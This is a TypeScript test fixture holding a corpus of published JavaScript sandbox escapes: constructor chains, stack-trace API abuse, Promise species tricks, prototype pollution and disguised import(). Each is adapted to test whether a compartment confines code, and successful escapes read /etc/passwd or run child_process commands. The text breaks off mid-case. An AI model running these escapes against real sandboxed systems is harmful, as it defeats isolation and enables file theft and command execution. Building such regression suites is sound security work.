/**
 * A corpus of published JavaScript sandbox escapes, each adapted to run as the function of an `at`.
 *
 * Every `body` is the source of an ordinary or async function `(ctx, env) => ...`. `env` carries
 * `{ marker, victim, victimId }`: a file path the escape tries to create, and the URL and ID of another
 * node that holds a secret in its ref `secret`. A body returns a string starting with `ESCAPED:` (followed by
 * what it obtained: a pid, /etc/passwd, a key, another node's value) when the escape worked, and otherwise
 * returns something else (usually `blocked: ...`) or throws. The exploits are adapted, not copied: the
 * original payloads reach `process.mainModule.require('child_process')`; here every one funnels what it got
 * into `pwn`/`viaFunction`/`viaRequire` below, which try `process`, `fs` (read /etc/passwd, write the marker).
 *
 * Bodies must pass SES's own source checks unless a case is about those checks: no `import(`, HTML comment
 * or direct `eval(` text outside the cases that test exactly that.
 */
export interface EscapeCase {
  name: string;
  /** Where the exploit comes from: an advisory ID, an issue or a document. */
  source: string;
  body: string;
}

const js = String.raw;

/** Shared helpers, pasted into every body (a shipped function closes over nothing). */
const H = js`
  const pwn = (p, env, how) => {
    if (!p || (typeof p !== 'object' && typeof p !== 'function') || typeof p.pid !== 'number') return 'blocked: no process via ' + how + ' (' + typeof p + ')';
    let out = 'ESCAPED:' + how + ':pid=' + p.pid + ';';
    try {
      const fs = typeof p.getBuiltinModule === 'function' ? p.getBuiltinModule('fs') : p.mainModule.require('fs');
      try { fs.writeFileSync(env.marker, 'escaped'); } catch (e) { out += 'write refused;'; }
      out += fs.readFileSync('/etc/passwd', 'utf8');
    } catch (e) { out += 'fs refused: ' + (e && e.message); }
    return out;
  };
  const viaFunction = (F, env, how) => {
    if (typeof F !== 'function') return 'blocked: no constructor via ' + how + ' (' + typeof F + ')';
    let p;
    try { p = F('return typeof process === "undefined" ? undefined : process')(); } catch (e) { return 'blocked: ' + how + ': ' + (e && e.message); }
    if (p && typeof p.then === 'function') return 'blocked: ' + how + ' gave a promise';
    return pwn(p, env, how);
  };
  const viaRequire = (r, env, how) => {
    if (typeof r !== 'function') return 'blocked: no require via ' + how + ' (' + typeof r + ')';
    try {
      const fs = r('fs');
      try { fs.writeFileSync(env.marker, 'escaped'); } catch (e) {}
      return 'ESCAPED:' + how + ':' + fs.readFileSync('/etc/passwd', 'utf8');
    } catch (e) { return 'blocked: ' + how + ': ' + (e && e.message); }
  };
`;

/** A breadth-first walk over everything reachable from `roots` (own properties, accessors, prototypes). */
const WALK = js`
  const walk = (roots, visit) => {
    const seen = new Set();
    const queue = roots.slice();
    while (queue.length) {
      const [path, o] = queue.shift();
      if ((typeof o !== 'object' && typeof o !== 'function') || o === null || seen.has(o)) { visit(path, o); continue; }
      seen.add(o);
      visit(path, o);
      let keys = [];
      try { keys = Reflect.ownKeys(o); } catch (e) {}
      for (const k of keys) {
        let d;
        try { d = Reflect.getOwnPropertyDescriptor(o, k); } catch (e) { continue; }
        if (!d) continue;
        const p = path + '.' + String(k);
        if ('value' in d) queue.push([p, d.value]);
        if (d.get) { queue.push([p + '<get>', d.get]); }
        if (d.set) queue.push([p + '<set>', d.set]);
      }
      let proto;
      try { proto = Reflect.getPrototypeOf(o); } catch (e) {}
      if (proto) queue.push([path + '.__proto__', proto]);
    }
    return seen.size;
  };
`;

export const ESCAPES: EscapeCase[] = [
  // --- constructor chains (node:vm's classic escape and its variants) ------------------------------------
  {
    name: 'node:vm this.constructor.constructor',
    source: 'https://nodejs.org/api/vm.html ("not a security mechanism"); vm2 docs/ATTACKS.md Category 1',
    body: js`function (ctx, env) { ${H} return viaFunction(this.constructor.constructor, env, 'this'); }`,
  },
  {
    name: 'constructor chain from ctx',
    source: 'vm2 docs/ATTACKS.md Category 1 (constructor chain traversal), applied to the host object ctx',
    body: js`(ctx, env) => { ${H} return viaFunction(ctx.constructor.constructor, env, 'ctx'); }`,
  },
  {
    name: 'constructor of a host closure (ctx.ref)',
    source: 'vm2 docs/ATTACKS.md Category 1; https://github.com/patriksimek/vm2/issues/184 (constructor of a host function)',
    body: js`(ctx, env) => { ${H} return viaFunction(ctx.ref.constructor, env, 'ctx.ref'); }`,
  },
  {
    name: 'constructor chain from a host promise',
    source: 'GHSA-mpf8-4hx2-7cjg / CVE-2026-44000 (host Promise resolution hands host objects to the sandbox)',
    body: js`async (ctx, env) => { ${H}
      const p = ctx.ref('x').get();
      const first = viaFunction(p.constructor.constructor, env, 'promise');
      if (first.startsWith('ESCAPED')) return first;
      const rows = await ctx.index('i').entries();
      return viaFunction(rows.constructor.constructor, env, 'host array');
    }`,
  },
  {
    name: 'constructor chain from a genuine host error',
    source: 'vm2 docs/ATTACKS.md Category 1 ("via an error object in catch"), applied to errors ctx throws',
    body: js`async (ctx, env) => { ${H}
      const errors = [];
      try { ctx.ref(''); } catch (e) { errors.push(e); }
      try { await ctx.at('not a node', () => 1); } catch (e) { errors.push(e); }
      try { await ctx.spawn({ lifetime: { kind: 'root' } }); } catch (e) { errors.push(e); }
      for (const e of errors) {
        const r = viaFunction(e.constructor.constructor, env, 'host error ' + e.code);
        if (r.startsWith('ESCAPED')) return r;
        const s = viaFunction(Object.getPrototypeOf(Object.getPrototypeOf(e)).constructor.constructor, env, 'host error proto');
        if (s.startsWith('ESCAPED')) return s;
      }
      return 'blocked: ' + errors.map((e) => e.code).join(',');
    }`,
  },
  {
    name: 'constructor chain from ctx.here (NodeRef)',
    source: 'vm2 docs/ATTACKS.md Category 1/2 (prototype traversal of an embedder-exposed object)',
    body: js`(ctx, env) => { ${H}
      const proto = Object.getPrototypeOf(ctx.here);
      const a = viaFunction(proto.constructor.constructor, env, 'NodeRef');
      if (a.startsWith('ESCAPED')) return a;
      return viaFunction(Object.getOwnPropertyDescriptor(proto, 'toString').value.constructor, env, 'NodeRef.toString');
    }`,
  },
  {
    name: 'AsyncFunction constructor',
    source: 'vm2 docs/ATTACKS.md Category 1 (dangerous function constructors); GHSA-g644-9gfx-q4q4 / CVE-2023-37903 (async bypass)',
    body: js`async (ctx, env) => { ${H}
      const AsyncFunction = (async function () {}).constructor;
      let p;
      try { p = await AsyncFunction('return typeof process === "undefined" ? undefined : process')(); } catch (e) { return 'blocked: ' + e.message; }
      return pwn(p, env, 'AsyncFunction');
    }`,
  },
  {
    name: 'GeneratorFunction and AsyncGeneratorFunction constructors',
    source: 'vm2 docs/ATTACKS.md Category 1 (Function, AsyncFunction, GeneratorFunction, AsyncGeneratorFunction)',
    body: js`async (ctx, env) => { ${H}
      const out = [];
      try { const G = (function* () {}).constructor; const p = G('yield typeof process === "undefined" ? undefined : process')().next().value; out.push(pwn(p, env, 'GeneratorFunction')); } catch (e) { out.push('blocked: ' + e.message); }
      try { const AG = (async function* () {}).constructor; const p = (await AG('yield typeof process === "undefined" ? undefined : process')().next()).value; out.push(pwn(p, env, 'AsyncGeneratorFunction')); } catch (e) { out.push('blocked: ' + e.message); }
      return out.find((x) => x.startsWith('ESCAPED')) || out.join(' | ');
    }`,
  },
  {
    name: 'engine TypeError caught in a catch clause',
    source: 'vm2 docs/ATTACKS.md Category 1 ("Via an error object in catch")',
    body: js`(ctx, env) => { ${H}
      try { null.x; } catch (e) { return viaFunction(e.constructor.constructor, env, 'TypeError'); }
      return 'blocked: no error';
    }`,
  },
  {
    name: '__lookupGetter__("__proto__") on a host function',
    source: 'https://github.com/patriksimek/vm2/issues/184 (Buffer.from.__lookupGetter__("__proto__"))',
    body: js`(ctx, env) => { ${H}
      const proto = ctx.at.__lookupGetter__('__proto__').call(ctx.at);
      return viaFunction(Object.getOwnPropertyDescriptor(proto, 'constructor').value, env, '__lookupGetter__');
    }`,
  },

  // --- host errors raised on demand (stack overflow, Symbol names, proxies) ------------------------------
  {
    name: 'stack overflow RangeError raised inside host code',
    source: 'CVE-2019-10761 (vm2 < 3.6.11: RangeError from the host at the call stack limit); https://github.com/patriksimek/vm2/issues/199',
    body: js`(ctx, env) => { ${H}
      const deep = () => { ctx.ref('x'); new TextEncoder().encode('x'); deep(); };
      try { deep(); } catch (e) {
        const r = viaFunction(e.constructor.constructor, env, 'RangeError');
        if (r.startsWith('ESCAPED')) return r;
        return viaFunction(Object.getPrototypeOf(e).constructor.constructor, env, 'RangeError proto');
      }
      return 'blocked: no overflow';
    }`,
  },
  {
    name: 'exception caught under a sanitizer-looking name',
    source: 'GHSA-xj72-wvfv-8985 / CVE-2023-29199 (transformer bypass: catch (a$tmpname) after a stack overflow)',
    body: js`(ctx, env) => { ${H}
      const aVM2_INTERNAL_TMPNAME = {};
      function stack() { new Error().stack; stack(); }
      try { stack(); } catch (a$tmpname) { return viaFunction(a$tmpname.constructor.constructor, env, 'a$tmpname'); }
      return 'blocked: ' + typeof aVM2_INTERNAL_TMPNAME;
    }`,
  },
  {
    name: 'thrown Proxy whose getPrototypeOf overflows the stack',
    source: 'GHSA-ch3r-j5x3-6q2m / CVE-2023-30547 (unsanitized host exception raised inside handleException)',
    body: js`(ctx, env) => { ${H}
      const err = {};
      const handler = { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } };
      const proxiedErr = new Proxy(err, handler);
      try { throw proxiedErr; } catch ({ constructor: c }) { return viaFunction(c.constructor, env, 'handleException'); }
    }`,
  },
  {
    name: 'Proxy as error.name.toString sees the formatter arguments',
    source: 'GHSA-whpj-8f3w-67p5 / CVE-2023-32314 (https://gist.github.com/arkark/e9f5cf5782dec8321095be3e52acf5ac)',
    body: js`(ctx, env) => { ${H}
      let got = 'blocked: toString never received host arguments';
      const err = new Error();
      err.name = { toString: new Proxy(() => '', { apply(target, thiz, args) { got = viaFunction(args.constructor.constructor, env, 'formatter args'); return 'x'; } }) };
      try { err.stack; } catch (e) {}
      try { String(err); } catch (e) {}
      return got;
    }`,
  },
  {
    name: 'error whose name is a Symbol (error generation primitive)',
    source: 'GHSA-6pw2-5hjv-9pf7 / CVE-2021-23555 (host errors from stack trace formatting); vm2 docs/ATTACKS.md "Error Generation Primitive"',
    body: js`(ctx, env) => { ${H}
      const e = new Error();
      e.name = Symbol('evil');
      try { e.stack; String(e); } catch (h) { return viaFunction(h.constructor.constructor, env, 'Symbol name'); }
      try { ctx.log(e); } catch (h) { return viaFunction(h.constructor.constructor, env, 'Symbol name via ctx.log'); }
      return 'blocked: no host error';
    }`,
  },
  {
    name: 'AggregateError of host rejections',
    source: 'GHSA-x965-fc75-jpqh (host-wrapped AggregateError); vm2 docs/ATTACKS.md Defense Invariant 3',
    body: js`async (ctx, env) => { ${H}
      try { await Promise.any([ctx.at('not a node', () => 1), ctx.spawn({ lifetime: { kind: 'root' } }), Promise.reject(new Error('own'))]); } catch (agg) {
        for (const e of [agg, ...((agg && agg.errors) || [])]) {
          const r = viaFunction(e && e.constructor && e.constructor.constructor, env, 'AggregateError');
          if (r.startsWith('ESCAPED')) return r;
        }
        return 'blocked: ' + (agg && agg.errors && agg.errors.map((e) => e && e.code).join(','));
      }
      return 'blocked: no rejection';
    }`,
  },

  // --- V8 stack trace API ----------------------------------------------------------------------------------
  {
    name: 'Error.prepareStackTrace CallSite.getThis',
    source: 'https://github.com/gf3/sandbox/issues/65; vm2 docs/ATTACKS.md Category 4',
    body: js`(ctx, env) => { ${H}
      try { Error.prepareStackTrace = (_, c) => c.map((s) => { try { return s.getThis(); } catch (e) { return undefined; } }).find((x) => x); } catch (e) { return 'blocked: ' + e.message; }
      const ret = new Error().stack;
      if (ret && typeof ret === 'object') return viaFunction(ret.constructor.constructor, env, 'getThis');
      return 'blocked: stack is ' + typeof ret;
    }`,
  },
  {
    name: 'Error.prepareStackTrace CallSite.getFunction reaches the worker loop',
    source: 'https://v8.dev/docs/stack-trace-api (CallSite.getFunction); vm2 docs/ATTACKS.md Category 4/5',
    body: js`(ctx, env) => { ${H}
      let frames = [];
      try { Error.prepareStackTrace = (_, c) => { frames = c; return 'x'; }; } catch (e) {}
      new Error().stack;
      for (const f of frames) {
        let fn;
        try { fn = f.getFunction(); } catch (e) { continue; }
        if (typeof fn === 'function') { const r = viaFunction(fn.constructor, env, 'getFunction ' + fn.name); if (r.startsWith('ESCAPED')) return r; }
      }
      return 'blocked: ' + frames.length + ' frames, no functions';
    }`,
  },
  {
    name: 'Error.captureStackTrace on a plain object with a custom prepareStackTrace',
    source: 'https://v8.dev/docs/stack-trace-api (Error.captureStackTrace); vm2 docs/ATTACKS.md Category 4',
    body: js`(ctx, env) => { ${H}
      let got = 'blocked: prepareStackTrace never called';
      try { Error.prepareStackTrace = (e, c) => { for (const s of c) { try { const t = s.getThis(); if (t) got = viaFunction(t.constructor.constructor, env, 'captureStackTrace'); } catch (x) {} } return ''; }; } catch (e) {}
      const o = {};
      if (typeof Error.captureStackTrace === 'function') { Error.captureStackTrace(o); o.stack; }
      return got;
    }`,
  },
  {
    name: 'prepareStackTrace with frames of an async error',
    source: 'GHSA-7jxr-cg7f-gpgv / CVE-2023-29017 (host frames array handed to prepareStackTrace for async errors)',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: prepareStackTrace never called';
      try { Error.prepareStackTrace = (e, frames) => { got = viaFunction(frames.constructor.constructor, env, 'frames'); return ''; }; } catch (e) {}
      async function aa() { (0, eval)('1=1'); }
      try { await aa(); } catch (e) { e.stack; }
      return got;
    }`,
  },
  {
    name: 'replace globalThis.Error, then format a stack',
    source: 'GHSA-mrgp-mrhc-5jrq / CVE-2022-36067 (SandBreak, Oxeye: prepareStackTrace on a replaced Error)',
    body: js`(ctx, env) => { ${H}
      const OldError = Error;
      let got = 'blocked: prepareStackTrace never called';
      const prepare = (e, traces) => { got = viaFunction(traces.__proto__.constructor.constructor, env, 'traces'); return ''; };
      try { globalThis.Error = { prepareStackTrace: prepare }; } catch (e) { got = 'blocked: ' + e.message; }
      try { OldError.prepareStackTrace = prepare; } catch (e) {}
      const { stack } = new OldError();
      return got + ' / ' + typeof stack;
    }`,
  },

  // --- Promise and species tricks -------------------------------------------------------------------------
  {
    name: 'Promise species with a stack-overflowing async function',
    source: 'GHSA-cchq-frgv-rjh5 / CVE-2023-37466 (https://gist.github.com/leesh3288/f693061e6523c97274ad5298eb2c74e9)',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: species executor never saw a host error';
      async function fn() { (function stack() { new Error().stack; stack(); })(); }
      const p = fn();
      try {
        p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) { executor((x) => x, (err) => { got = viaFunction(err && err.constructor && err.constructor.constructor, env, 'species'); }); } } };
      } catch (e) { got = 'blocked: ' + e.message; }
      try { p.then(); } catch (e) {}
      p.catch(() => {});
      for (let i = 0; i < 5; i++) await null;
      return got;
    }`,
  },
  {
    name: 'Promise species on a host promise that rejects with a host error',
    source: 'GHSA-qvjj-29qf-hp7p / CVE-2026-24120 (Promise species breakout) applied to promises ctx returns',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: species executor never saw a host error';
      const p = ctx.at('not a node', () => 1);
      try {
        Object.defineProperty(p, 'constructor', { value: { [Symbol.species]: function Fake(executor) { executor((x) => x, (err) => { got = viaFunction(err && err.constructor && err.constructor.constructor, env, 'host species'); }); } } });
        p.then();
      } catch (e) { got = 'blocked: ' + e.message; }
      try { await p; } catch (e) {}
      for (let i = 0; i < 5; i++) await null;
      return got;
    }`,
  },
  {
    name: 'stolen Promise.all with a fake constructor',
    source: 'vm2 docs/ATTACKS.md Category 7 (static method stealing: FakePromise.all = Promise.all)',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: fake reject never saw a host error';
      function FakePromise(executor) { executor((x) => x, (err) => { got = viaFunction(err && err.constructor && err.constructor.constructor, env, 'Promise.all'); }); }
      FakePromise.all = Promise.all;
      FakePromise.resolve = () => {};
      try { FakePromise.all({ [Symbol.iterator]: () => { const e = new Error(); e.name = Symbol(); return e.stack; } }); } catch (e) { got = 'blocked: ' + e.message; }
      await null;
      return got;
    }`,
  },
  {
    name: 'Reflect.construct(Promise) with a fake new.target',
    source: 'vm2 docs/ATTACKS.md Category 7 (Reflect.construct instanceof bypass)',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: fake reject never saw a host error';
      function FakePromise(executor) { executor((x) => x, (err) => { got = viaFunction(err && err.constructor && err.constructor.constructor, env, 'Reflect.construct'); }); }
      FakePromise[Symbol.species] = FakePromise;
      try {
        const res = Reflect.construct(Promise, [() => { const e = new Error(); e.name = Symbol(); return e.stack; }], FakePromise);
        res.then = Promise.prototype.then;
        res.then();
      } catch (e) { got = 'blocked: ' + e.message; }
      await null;
      return got;
    }`,
  },
  {
    name: 'override Function.prototype.call to intercept host dispatch',
    source: 'vm2 docs/ATTACKS.md Category 7 (Override Function.prototype.call to intercept Promise internals)',
    body: js`async (ctx, env) => { ${H}
      const captured = [];
      try {
        const orig = Function.prototype.call;
        Function.prototype.call = function (...args) { captured.push(this); return orig.apply(this, args); };
      } catch (e) { return 'blocked: ' + e.message; }
      await ctx.ref('x').get();
      for (const f of captured) { const r = viaFunction(f.constructor, env, 'call'); if (r.startsWith('ESCAPED')) return r; }
      return 'ESCAPED:overrode Function.prototype.call for host code';
    }`,
  },
  {
    name: 'species on a host-created array',
    source: 'vm2 docs/ATTACKS.md Category 10 (Array species self-return via constructor manipulation); GHSA-9qj6-qjgg-37qq',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: species never handed over a host object';
      const rows = await ctx.index('i').entries();
      try { Object.defineProperty(Array.prototype, 0, { get() { got = 'ESCAPED:Array.prototype getter installed'; return undefined; } }); } catch (e) {}
      Object.defineProperty(rows, 'constructor', { value: { [Symbol.species]: function (n) { try { got = viaFunction(arguments.callee.caller, env, 'species caller'); } catch (e) { got = 'blocked: ' + e.message; } return []; } } });
      try { rows.map((x) => x); } catch (e) { if (!got.startsWith('ESCAPED')) got = 'blocked: ' + e.message; }
      return got;
    }`,
  },

  // --- prototype pollution aimed at host objects ---------------------------------------------------------
  {
    name: 'Object.prototype getter pollution that throws a function into host code',
    source: 'https://github.com/patriksimek/vm2/issues/175; vm2 docs/ATTACKS.md Category 2',
    body: js`async (ctx, env) => { ${H}
      try {
        Object.defineProperty(Object.prototype, 'get', { get() { throw (x) => x.constructor('return process')(); } });
      } catch (e) { return 'blocked: ' + e.message; }
      try { await ctx.ref('x').get(); } catch (f) { if (typeof f === 'function') return pwn(f(() => {}), env, 'thrown function'); }
      return 'ESCAPED:polluted Object.prototype';
    }`,
  },
  {
    name: 'pollution of host prototypes and ctx (then, toWire, NodeRef, ctx methods)',
    source: 'https://github.com/HoLyVieR/prototype-pollution-nsec18 (prototype pollution in Node.js); vm2 docs/ATTACKS.md Defense Invariant 6',
    body: js`async (ctx, env) => { ${H}
      const changed = [];
      const tryIt = (name, f) => { try { f(); changed.push(name); } catch (e) {} };
      let err;
      try { ctx.ref(''); } catch (e) { err = e; }
      tryIt('Object.prototype.then', () => { Object.prototype.then = (r) => r('hijacked'); });
      tryIt('Array.prototype.push', () => { Array.prototype.push = () => 0; });
      tryIt('ctx.log', () => { ctx.log = () => {}; });
      tryIt('ctx.caps.x', () => { ctx.caps.x = () => 1; });
      tryIt('ctx.here.url', () => { ctx.here.url = 'http://evil.example/'; });
      tryIt('NodeRef.prototype.toString', () => { Object.getPrototypeOf(ctx.here).toString = () => 'evil'; });
      tryIt('KeynodeError.prototype.toWire', () => { Object.getPrototypeOf(err).toWire = () => ({ code: 'ERR_ACCESS_DENIED', message: 'forged' }); });
      tryIt('KeynodeError.fromWire', () => { err.constructor.fromWire = () => null; });
      tryIt('ref object set', () => { ctx.ref('x').set = async () => {}; });
      tryIt('Lifetime.root', () => { ctx.Lifetime.root = () => ({ kind: 'evil' }); });
      tryIt('Promise.prototype.then', () => { Promise.prototype.then = function () { return this; }; });
      tryIt('JSON.stringify', () => { JSON.stringify = () => 'evil'; });
      tryIt('Uint8Array.prototype.set', () => { Uint8Array.prototype.set = () => {}; });
      return changed.length ? 'ESCAPED:polluted ' + changed.join(', ') : 'blocked: everything frozen';
    }`,
  },
  {
    name: 'WeakMap/WeakSet prototype override to capture host objects',
    source: 'GHSA-4w2j-2rg4-5mjw / CVE-2022-25893 (prototype lookup of WeakMap.prototype.set leaks host objects)',
    body: js`async (ctx, env) => { ${H}
      const leaked = [];
      const changed = [];
      for (const [C, m] of [[WeakMap, 'set'], [WeakMap, 'get'], [WeakSet, 'add'], [WeakSet, 'has'], [Map, 'set']]) {
        try { const orig = C.prototype[m]; C.prototype[m] = function (k, v) { leaked.push(k); return orig.call(this, k, v); }; changed.push(C.name + '.' + m); } catch (e) {}
      }
      try { ctx.ref(''); } catch (e) {}
      await ctx.ref('x').get();
      for (const k of leaked) { const r = viaFunction(k && k.constructor && k.constructor.constructor, env, 'WeakMap key'); if (r.startsWith('ESCAPED')) return r; }
      return changed.length ? 'ESCAPED:overrode ' + changed.join(', ') : 'blocked: collections frozen';
    }`,
  },

  // --- proxies handed to host code -----------------------------------------------------------------------
  {
    name: 'Proxies whose traps throw functions into host code',
    source: 'vm2 docs/ATTACKS.md Category 6 (throw function from a getOwnPropertyDescriptor trap: Buffer.from(new Proxy(...)))',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: host code never called the thrown function';
      const f = (x) => { got = viaFunction(x && x.constructor, env, 'thrown to host'); return x; };
      const evil = () => new Proxy({}, { ownKeys() { throw f; }, has() { throw f; }, get() { throw f; }, getOwnPropertyDescriptor() { throw f; }, getPrototypeOf() { throw f; } });
      const attempts = [
        () => ctx.spawn(evil()),
        () => ctx.at(evil(), () => 1),
        () => ctx.ref('x').set(evil()),
        () => ctx.index('i').entries(evil()),
        () => ctx.destroy(evil()),
      ];
      for (const a of attempts) { try { await a(); } catch (e) { if (typeof e === 'function' && e !== f) return 'ESCAPED:host threw a foreign function'; } }
      try { ctx.log(evil()); } catch (e) {}
      return got;
    }`,
  },
  {
    name: 'Proxy construct trap returning a function',
    source: 'vm2 docs/ATTACKS.md Category 6 ("Construct trap returning a function")',
    body: js`(ctx, env) => { ${H}
      const P = new Proxy(class A {}, { construct() { return function () { return Object.getPrototypeOf(this).constructor.constructor; }; } });
      const made = new P();
      let F;
      try { F = made.call({}); } catch (e) { return 'blocked: ' + e.message; }
      return viaFunction(F, env, 'construct trap');
    }`,
  },
  {
    name: 'thrown Proxy whose traps throw functions at the error reporter',
    source: 'vm2 docs/ATTACKS.md Category 6 (instanceof bypass via getPrototypeOf: throw new Proxy(...))',
    body: js`(ctx, env) => { ${H}
      const f = (x) => { throw new Error('ESCAPED:reporter called ' + (x && x.constructor && x.constructor.name)); };
      throw new Proxy({}, { getPrototypeOf() { throw f; }, get(t, k) { if (k === 'message') return 'blocked: reporter read the message only'; throw f; }, has() { throw f; }, ownKeys() { throw f; } });
    }`,
  },

  // --- import() and its disguises -------------------------------------------------------------------------
  {
    name: 'dynamic import() of a relative module',
    source: 'GHSA-rjf2-j2r6-q8gr / CVE-2021-23449 (vm2 <= 3.9.4: import() then res.toString.constructor("return this")())',
    body: js`async (ctx, env) => { ${H}
      const res = import('./main.js');
      return viaFunction(res.toString.constructor, env, 'import() promise');
    }`,
  },
  {
    name: 'import() with a block comment before the parenthesis',
    source: 'endojs/endo packages/ses test "reject import expressions in evaluate" (comment: import/*hah*/(...))',
    body: js`async (ctx, env) => { ${H}
      const fs = await import/*hah*/('node:fs');
      return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8');
    }`,
  },
  {
    name: 'import() with a line comment and newline before the parenthesis',
    source: 'endojs/endo packages/ses test "reject import expressions in evaluate" (doubleSlashComment, newline)',
    body: js`async (ctx, env) => { ${H}
      const fs = await import // hah
      ('node:fs');
      return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8');
    }`,
  },
  {
    name: 'import() with a template-literal specifier',
    source: 'endojs/endo packages/ses error-codes/SES_IMPORT_REJECTED.md (any text that appears to call import)',
    body:
      'async (ctx, env) => { const m = await import(`node:${"child_process"}`); return "ESCAPED:" + m.execSync("id").toString(); }',
  },
  {
    name: 'import() built at run time for indirect eval and Function',
    source: 'endojs/endo packages/ses error-codes/SES_IMPORT_REJECTED.md (the check also applies to eval and Function)',
    body: js`async (ctx, env) => { ${H}
      const src = 'imp' + 'ort("node:fs")';
      const out = [];
      try { const fs = await (0, eval)(src); return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8'); } catch (e) { out.push('eval: ' + e.message); }
      try { const fs = await Function('return ' + src)(); return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8'); } catch (e) { out.push('Function: ' + e.message); }
      try { const fs = await new Compartment().evaluate(src); return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8'); } catch (e) { out.push('Compartment: ' + e.message); }
      return 'blocked: ' + out.join(' | ');
    }`,
  },
  {
    name: 'import() with a unicode-escaped keyword and a U+2028 separator',
    source: 'endojs/endo packages/ses src/transforms.js rejectImportExpressions (note on U+2028 and escaped keywords)',
    body: js`async (ctx, env) => { ${H}
      const out = [];
      for (const src of ['\\u0069mport("node:fs")', 'imp' + 'ort\u2028("node:fs")', 'imp' + 'ort\u00a0("node:fs")', 'x = imp' + 'ort.meta']) {
        try { const fs = await (0, eval)(src); return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8'); } catch (e) { out.push(e.message); }
      }
      return 'blocked: ' + out.join(' | ');
    }`,
  },
  {
    name: 'nested Compartment evaluate with __evadeImportExpressionTest__',
    source: 'endojs/endo packages/ses test "evade import expressions in evaluate" (__evadeImportExpressionTest__)',
    body: js`async (ctx, env) => { ${H}
      try {
        const fs = await new Compartment().evaluate('imp' + 'ort("node:fs")', { __evadeImportExpressionTest__: true, __rejectSomeDirectEvalExpressions__: false });
        return 'ESCAPED:' + fs.readFileSync('/etc/passwd', 'utf8');
      } catch (e) { return 'blocked: ' + e.message; }
    }`,
  },
  {
    name: 'nested Compartment with an importHook asked for node:fs and node:child_process',
    source: 'endojs/endo packages/ses README ("Compartments receive no ambient authority"; modules only through hooks)',
    body: js`async (ctx, env) => { ${H}
      const out = [];
      const c = new Compartment({}, {}, { resolveHook: (s) => s, importHook: async (s) => { throw new Error('no loader for ' + s); }, importNowHook: (s) => { throw new Error('no loader for ' + s); } });
      for (const s of ['node:fs', 'node:child_process', 'fs']) {
        try { const ns = await c.import(s); return 'ESCAPED:' + typeof ns; } catch (e) { out.push(s); }
        try { const ns = c.importNow(s); return 'ESCAPED:' + typeof ns; } catch (e) {}
      }
      return 'blocked: ' + out.join(',');
    }`,
  },
  {
    name: 'HTML comment syntax in evaluated code',
    source: 'endojs/endo packages/ses error-codes (SES_HTML_COMMENT_REJECTED) and src/transforms.js rejectHtmlComments',
    body: js`(ctx, env) => { ${H}
      const out = [];
      for (const src of ['<!' + '-- hidden\ntypeof process', 'x = 1\n--' + '> typeof process']) {
        try { const r = (0, eval)(src); if (r === 'object') return 'ESCAPED:process visible'; out.push(String(r)); } catch (e) { out.push(e.message); }
      }
      return 'blocked: ' + out.join(' | ');
    }`,
  },

  // --- eval, Function, with, sloppy mode, callers ---------------------------------------------------------
  {
    name: 'indirect eval, optional-call eval and globalThis.eval',
    source: 'endojs/endo packages/ses docs (SESERR1: possible eval expression rejected; indirect eval is confined)',
    body: js`(ctx, env) => { ${H}
      const attempts = [() => (0, eval)('typeof process === "undefined" ? undefined : process'), () => eval?.('this'), () => globalThis.eval('globalThis.process'), () => (0, eval)('this')];
      for (const a of attempts) { try { const r = a(); if (r && typeof r.pid === 'number') return pwn(r, env, 'eval'); if (r && r.process) return pwn(r.process, env, 'eval this'); } catch (e) {} }
      return 'blocked: eval is the compartment\'s';
    }`,
  },
  {
    name: 'Function("return this")() and the global object',
    source: 'https://nodejs.org/api/vm.html; vm2 docs/ATTACKS.md Category 1 (global.__proto__.constructor.constructor("return this")())',
    body: js`(ctx, env) => { ${H}
      const g = Function('return this')() || globalThis;
      if (g.process) return pwn(g.process, env, 'global this');
      const viaProto = viaFunction(Object.getPrototypeOf(globalThis).constructor.constructor, env, 'global proto');
      if (viaProto.startsWith('ESCAPED')) return viaProto;
      const self = Function('return this')();
      if (self === undefined) return 'blocked: Function("return this")() is undefined (strict), global is the compartment\'s';
      return viaFunction(self.constructor.constructor, env, 'Function this');
    }`,
  },
  {
    name: 'with statement and sloppy mode in a nested Compartment',
    source: 'endojs/endo packages/ses Compartment evaluate option sloppyGlobalsMode; vm2 docs/ATTACKS.md (with-statement instrumentation)',
    body: js`(ctx, env) => { ${H}
      const out = [];
      try { const r = Function('with (globalThis) { return typeof process }')(); out.push(r); } catch (e) { out.push(e.message); }
      try {
        const c = new Compartment({ __options__: true, globals: {} });
        const r = c.evaluate('(function () { return this; })()', { sloppyGlobalsMode: true });
        if (r && r.process) return pwn(r.process, env, 'sloppy this');
        out.push(typeof r);
      } catch (e) { out.push(e.message); }
      return 'blocked: ' + out.join(' | ');
    }`,
  },
  {
    name: 'arguments.callee.caller and fn.caller',
    source: 'vm2 docs/ATTACKS.md Category 5 (Function caller/callee access)',
    body: js`(ctx, env) => { ${H}
      const out = [];
      try { return viaFunction((function () { return arguments.callee.caller; })().constructor, env, 'callee.caller'); } catch (e) { out.push(e.message); }
      try { function exploit() { return exploit.caller; } const c = exploit(); if (c) return viaFunction(c.constructor, env, 'fn.caller'); out.push('null caller'); } catch (e) { out.push(e.message); }
      try { const d = Object.getOwnPropertyDescriptor(Function.prototype, 'caller'); out.push(d ? 'accessor present' : 'no Function.prototype.caller'); } catch (e) { out.push(e.message); }
      return 'blocked: ' + out.join(' | ');
    }`,
  },
  {
    name: 'caller of a user callback that host code invokes (toJSON, toString, valueOf)',
    source: 'vm2 docs/ATTACKS.md Category 5 ("Arrange for this function to be called by a bridge function")',
    body: js`async (ctx, env) => { ${H}
      let got = 'blocked: no caller reachable';
